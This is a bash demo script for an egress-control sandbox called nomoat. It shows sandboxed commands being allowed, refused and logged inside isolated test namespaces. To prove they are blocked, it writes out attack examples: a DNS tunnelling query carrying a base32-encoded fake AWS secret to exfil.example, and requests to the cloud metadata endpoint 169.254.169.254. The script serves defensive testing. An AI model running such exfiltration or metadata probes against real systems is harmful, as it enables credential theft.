#!/usr/bin/env bash
# The demonstration behind `make demo`: nomoatd on the shipped default policy
# file (policy/nomoat.conf), which sets up a ready sandbox cgroup (/nomoat);
# sandboxed commands run there with `nomoat run`, inside test network
# namespaces that route only to each other.  Everything it makes (the
# daemon, namespaces, the cgroups it created, its own pin dir) is removed
# when it ends.
set -euo pipefail

OUT=${1:-build}
NOMOAT="$OUT/nomoat"
SHIPPED=policy/nomoat.conf
export NOMOAT_PIN_DIR=/sys/fs/bpf/nomoat-demo-$$
[[ $(id -u) -eq 0 ]] || { echo "demo: run as root (it loads BPF programs and makes namespaces)" >&2; exit 1; }
if [[ -s /run/nomoat/nomoatd.pid ]] && kill -0 "$(cat /run/nomoat/nomoatd.pid)" 2>/dev/null; then
	echo "demo: a nomoatd is already running here (/run/nomoat/nomoatd.pid); the demo would share its sockets" >&2
	exit 1
fi

tmp=$(mktemp -d /tmp/nomoat-demo.XXXXXX)
# The shipped file, with the services' logs in the demo's directory and the
# demo's upstream resolver.
CONF=$tmp/nomoat.conf
sed "s|/var/log/nomoat/|$tmp/|" "$SHIPPED" > "$CONF"
echo "dns-upstream 11.22.33.53" >> "$CONF"
chmod 644 "$CONF"
CG2=$("$NOMOAT" -j status | sed -n 's/.*"cgroup2":"\([^"]*\)".*/\1/p')
[[ -n $CG2 ]] || { echo "demo: no cgroup v2 mount" >&2; exit 1; }
made=()
for d in nomoat nomoat-proxy nomoat-dns; do [[ -d $CG2/$d ]] || made+=("$CG2/$d"); done
daemon_pid= net_pid= ev_pid= up_pid= dns_pid= proxy_pid=

cleanup() {
	set +e
	[[ -n $ev_pid ]] && kill "$ev_pid" 2>/dev/null && wait "$ev_pid" 2>/dev/null
	for p in $dns_pid $proxy_pid $up_pid; do kill "$p" 2>/dev/null && wait "$p" 2>/dev/null; done
	[[ -n $net_pid ]] && kill "$net_pid" 2>/dev/null && wait "$net_pid" 2>/dev/null
	exec 4>&- 2>/dev/null
	[[ -n $daemon_pid ]] && kill "$daemon_pid" 2>/dev/null && wait "$daemon_pid" 2>/dev/null
	"$NOMOAT" unload >/dev/null 2>&1
	for d in "${made[@]}"; do rmdir "$d"/nomoat-run-* "$d" 2>/dev/null; done
	rm -rf "$tmp"
}
trap cleanup EXIT INT TERM

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
show() { printf '$ %s\n' "$*"; "$@"; }
wait_for() { # FILE PATTERN: bounded wait for a line
	for _ in $(seq 1 150); do grep -q "$2" "$1" 2>/dev/null && return 0; sleep 0.1; done
	return 1
}

step "start nomoatd on the shipped policy file ($SHIPPED; logs moved to $tmp, upstream: the test one)"
grep -vE '^\s*(#|$)' "$CONF" | sed 's/^/    /'
printf '$ nomoatd --config %s   (own pin dir %s for the demo)\n' "$CONF" "$NOMOAT_PIN_DIR"
"$OUT/nomoatd" --config "$CONF" --pin-dir "$NOMOAT_PIN_DIR" --pidfile "$tmp/nomoatd.pid" \
	> "$tmp/daemon.out" 2> "$tmp/daemon.err" &
daemon_pid=$!
if ! wait_for "$tmp/daemon.err" 'running'; then
	cat "$tmp/daemon.err" >&2
	echo "demo: nomoatd did not start" >&2
	exit 1
fi
sed 's/^/    /' "$tmp/daemon.err"
show "$NOMOAT" cgroup list

step "build the test network (fake metadata, internal and internet hosts, a test upstream resolver)"
mkfifo "$tmp/ctl"
"$OUT/nomoat-testnet" --prefix "nmdemo$$" --proxy-cgroup "$CG2/nomoat-proxy" \
	< "$tmp/ctl" > "$tmp/net.out" &
net_pid=$!
exec 4> "$tmp/ctl"
wait_for "$tmp/net.out" '^ready' || { echo "demo: the test network failed" >&2; exit 1; }
read -r _ CNS WNS < "$tmp/net.out"
# The internet's resolver: 11.22.33.53 in the world namespace, answering
# the shipped allowlist's names with the fake internet host, and logging
# every query it gets.
ip -n "$WNS" addr add 11.22.33.53/32 dev lo
ip -n "$CNS" route add 11.22.33.53/32 via 10.250.0.1
ip netns exec "$WNS" python3 -u tests/dns/upstream.py 11.22.33.53 "$tmp/upstream.log" \
	pypi.org=11.22.33.44 files.pythonhosted.org=11.22.33.44 > "$tmp/upstream.out" 2>&1 &
up_pid=$!
wait_for "$tmp/upstream.out" ready || { echo "demo: the test upstream did not start" >&2; exit 1; }
echo "client namespace $CNS stands in for the host: its loopback holds the policy's endpoints,"
echo "its routes lead only to the test hosts; the upstream resolver 11.22.33.53 logs every query"

step "start nomoat-proxy and nomoat-dns on the policy's endpoints (127.0.0.1:3128, 127.0.0.1:3053)"
printf '$ nomoat-dns --config %s --cgroup /nomoat-dns --user nobody ...\n' "$CONF"
nsenter --net="/run/netns/$CNS" "$OUT/nomoat-dns" --config "$CONF" --cgroup /nomoat-dns --user nobody \
	--pin-dir "$NOMOAT_PIN_DIR" --log "$tmp/dns.jsonl" --names-dir "$tmp/names" > "$tmp/dns.err" 2>&1 &
dns_pid=$!
printf '$ nomoat-proxy --config %s --cgroup /nomoat-proxy --user nobody ...\n' "$CONF"
printf '11.22.33.44 pypi.org files.pythonhosted.org\n' > "$tmp/hosts"
chmod 755 "$tmp"; chmod 644 "$tmp/hosts"
nsenter --net="/run/netns/$CNS" "$OUT/nomoat-proxy" --config "$CONF" --cgroup /nomoat-proxy --user nobody \
	--pin-dir "$NOMOAT_PIN_DIR" --log "$tmp/proxy.jsonl" --hosts "$tmp/hosts" --no-dns > "$tmp/proxy.err" 2>&1 &
proxy_pid=$!
wait_for "$tmp/dns.err" 'ready' && wait_for "$tmp/proxy.err" 'ready' ||
	{ cat "$tmp/dns.err" "$tmp/proxy.err" >&2; echo "demo: the resolver or the proxy did not start" >&2; exit 1; }
echo "(the proxy resolves names from a hosts file here: the demo has no internet)"

"$NOMOAT" events --socket /run/nomoat/events.sock > "$tmp/events" 2>&1 &
ev_pid=$!
sleep 0.3

sandboxed() { # as a sandboxed agent: in a fresh cgroup under /nomoat, in the client netns
	printf '$ nomoat run --policy agents -- %s\n' "$*"
	"$NOMOAT" run --policy agents -- ip netns exec "$CNS" "$@" || true
}

step "1. an allowed name: resolved by nomoat-dns (whatever resolv.conf says), fetched through nomoat-proxy"
echo "(no proxy settings, no hosts file in the sandbox; its /etc/resolv.conf is the host's)"
sandboxed getent hosts pypi.org
sandboxed curl -sS -m 5 --http0.9 http://pypi.org/simple/

step "2. an unlisted name: NXDOMAIN at once, whichever resolver the agent asks"
sandboxed dig +time=2 +tries=1 +noall +comments @8.8.8.8 evil.example
sandboxed getent hosts evil.example

step "3. a tunnelling query (data in the name): NXDOMAIN, and it never reaches the upstream"
secret=$(printf 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI' | base32 | tr -d '=' | tr 'A-Z' 'a-z')
sandboxed dig +time=2 +tries=1 +short TXT "$secret.exfil.example"
printf 'queries the upstream resolver received: %s; with the secret in them: %s\n' \
	"$(grep -c '"name"' "$tmp/upstream.log" || true)" "$(grep -c "$secret" "$tmp/upstream.log" || true)"
sed 's/^/    /' "$tmp/upstream.log"

step "4. the cloud metadata service is refused (IPv4, IPv4-mapped IPv6, IPv6), and a private address"
sandboxed curl -sS -m 3 http://169.254.169.254/latest/meta-data/
sandboxed curl -sS -m 3 -g 'http://[::ffff:169.254.169.254]/latest/meta-data/'
sandboxed curl -sS -m 3 -g 'http://[fd00:ec2::254]/latest/meta-data/'
sandboxed curl -sS -m 3 http://10.1.2.3/

sleep 0.5
step "5. the events, as nomoatd serves them (nomoat events): the kernel's, the resolver's, the proxy's"
kill "$ev_pid" 2>/dev/null; wait "$ev_pid" 2>/dev/null || true
ev_pid=
grep -E '"type":"(decision|dns|proxy)"' "$tmp/events" | grep -v nomoatd-canary || true

step "6. metrics (curl --unix-socket /run/nomoat/metrics.sock http://localhost/metrics)"
curl -s --unix-socket /run/nomoat/metrics.sock http://localhost/metrics |
	grep -E '^nomoat_(decisions_total\{policy="agents"|reloads_total|dns_refused_total|dns_lines_total|proxy_lines_total)' || true

step "stop the services and nomoatd (enforcement stays), then unload and remove the test network"
